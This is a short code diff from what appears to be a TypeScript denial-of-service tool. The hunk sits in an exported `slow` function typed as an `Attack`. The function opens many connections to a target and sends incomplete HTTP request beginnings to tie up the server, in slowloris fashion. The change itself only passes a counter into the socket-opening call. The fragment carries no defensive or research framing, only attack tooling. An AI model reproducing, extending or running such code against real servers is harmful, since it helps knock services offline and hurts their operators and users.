@@ -14,7 +14,7 @@ export const slow: Attack = async (target, count, signal, paths) => {
   ];
   await untilEnded(CONNECTIONS, signal, async (n) => {
     const kind = n % beginnings.length;
-    const socket = openSocket(target, n);
+    const socket = openSocket(target, n, count);
     const body = kind === 0 ? '' : `${headersOf(target, n)}\r\n`;
     socket.write(beginnings[kind]! + body);
     count.sent++;
